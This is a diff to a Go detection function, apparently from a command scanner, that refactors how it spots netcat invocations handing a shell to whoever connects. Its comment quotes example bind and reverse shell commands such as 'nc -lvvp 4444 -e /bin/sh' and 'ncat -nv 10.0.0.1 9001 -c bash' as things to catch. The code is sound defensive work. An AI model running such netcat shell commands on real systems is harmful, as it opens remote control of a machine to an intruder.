@@ -7,37 +7,33 @@ import (
 )
 
 // netcatNames are the names netcat goes by.
-var netcatNames = [...]string{"netcat", "ncat", "nc"}
+var netcatNames = lex.NewWordList("netcat", "ncat", "nc")
 
 // NetcatShell finds netcat set up to hand a program (a shell) to whoever
 // connects or is connected to, whatever flags stand between: nc -lvvp
 // 4444 -e /bin/sh, ncat -nv 10.0.0.1 9001 -c bash, nc x 1 -e cmd.exe. s is
-// lower-cased. It returns the offset of the netcat word, or -1.
+// lower-cased, have its byte set. It returns the offset of the netcat
+// word, or -1.
 //
 // The phrase list holds "nc -e" as written; this reads the command's
 // arguments up to the end of its command (a separator), for a program
 // flag (-e, -c, or a cluster of flags ending in one: -nlvpe) followed by
-// an argument, or a shell's absolute path among them.
-func NetcatShell(s string) int {
-	for _, name := range netcatNames {
-		read := 0 // where the last arguments read ended: an occurrence before it was among them
-		for off := 0; off < len(s); {
-			i := strings.Index(s[off:], name)
-			if i < 0 {
-				break
-			}
-			i += off
-			off = i + len(name)
-			if i < read || i > 0 && (lex.IsWord(s[i-1]) || s[i-1] == '.' || s[i-1] == '-') || off >= len(s) || s[off] != ' ' && s[off] != '\t' {
-				continue
-			}
-			var runs bool
-			if runs, read = netcatRunsProgram(s, off); runs {
-				return i
-			}
+// an argument, or a shell's absolute path among them. An occurrence among
+// the arguments just read is not read again: a value of "nc nc nc ..."
+// is read once.
+func NetcatShell(s string, have *lex.ByteSet) int {
+	from, read := 0, 0 // the arguments read last: s[from:read]
+	_, at := netcatNames.Index(s, have, func(i int, w string) bool {
+		e := i + len(w)
+		if from <= i && i < read || i > 0 && (lex.IsWord(s[i-1]) || s[i-1] == '.' || s[i-1] == '-') || e >= len(s) || s[e] != ' ' && s[e] != '\t' {
+			return false
 		}
-	}
-	return -1
+		var runs bool
+		runs, read = netcatRunsProgram(s, e)
+		from = e
+		return runs
+	})
+	return at
 }
 
 // netcatRunsProgram reads netcat's arguments from s[j:] to the end of its
